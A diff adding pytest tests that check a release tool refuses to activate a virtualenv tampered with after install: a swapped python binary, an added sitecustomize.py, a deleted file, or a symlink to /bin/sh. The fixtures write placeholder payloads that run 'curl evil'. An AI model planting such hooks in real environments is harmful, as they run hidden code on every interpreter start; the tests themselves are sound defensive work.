@@ -122,6 +122,63 @@ def test_a_tampered_installed_release_is_refused_before_anything_changes(root):
     assert tree(str(root)) == before and len(systemd.writes()) == calls
 
 
+def writable(path):
+    """Give root's write permission back along a read-only release, as an attacker with root would."""
+    for directory in [path.parent] + list(path.parents)[:4]:
+        if directory.exists():
+            os.chmod(directory, 0o755)
+
+
+@pytest.mark.parametrize("change", ["changed", "added", "missing", "linked"])
+def test_a_virtualenv_changed_after_install_is_refused_before_anything_changes(root, change):
+    layout = Layout(str(root))
+    site_packages = Path(layout.venv("r2", "ssh-access")) / "lib" / "site-packages"
+    site_packages.mkdir(parents=True)
+    (site_packages / "agent.py").write_text("print('agent')\n")
+    layout, systemd = active_on(root, "r1", "r2")
+    python = Path(layout.venv("r2", "ssh-access")) / "bin" / "python"
+    writable(site_packages / "agent.py")
+    writable(python)
+    if change == "changed":
+        os.chmod(python, 0o755)
+        python.write_text("#!/bin/sh\ncurl evil\n")
+    elif change == "added":
+        (site_packages / "sitecustomize.py").write_text("import os; os.system('curl evil')\n")
+    elif change == "missing":
+        (site_packages / "agent.py").unlink()
+    else:
+        python.unlink()
+        python.symlink_to("/bin/sh")
+    before, calls = tree(str(root)), len(systemd.writes())
+    with pytest.raises(RunError, match="virtualenvs no longer hold what was installed") as raised:
+        activate(root, systemd, release_id="r2")
+    message = str(raised.value)
+    assert {"changed": "changed ssh-access/bin/python", "added": "added ssh-access/lib/site-packages/sitecustomize.py",
+            "missing": "missing ssh-access/lib/site-packages/agent.py",
+            "linked": "changed ssh-access/bin/python"}[change] in message
+    assert "install the release again under a new release id" in message
+    assert tree(str(root)) == before and len(systemd.writes()) == calls
+
+
+def test_bytecode_caches_in_a_virtualenv_are_not_a_change(root):
+    layout, systemd = active_on(root, "r1", "r2")
+    cache = Path(layout.venv("r2", "ssh-access")) / "bin" / "__pycache__"
+    writable(cache / "x")
+    cache.mkdir()
+    (cache / "module.cpython-313.pyc").write_bytes(b"\0")
+    result = activate(root, systemd, release_id="r2")
+    assert result["current"] == "r2"
+
+
+def test_an_installed_release_without_a_record_of_its_virtualenvs_is_not_activated(root):
+    layout, systemd = active_on(root, "r1", "r2")
+    record = Path(layout.release("r2")) / "venvs.sha256"
+    os.chmod(record.parent, 0o755)
+    record.unlink()
+    with pytest.raises(RunError, match="has no readable record of its virtualenvs"):
+        activate(root, systemd, release_id="r2")
+
+
 def test_rolled_back_returns_to_previous_and_the_release_it_leaves_becomes_previous(root):
     layout, systemd = active_on(root, "r1", "r2")
     activate(root, systemd, release_id="r2")
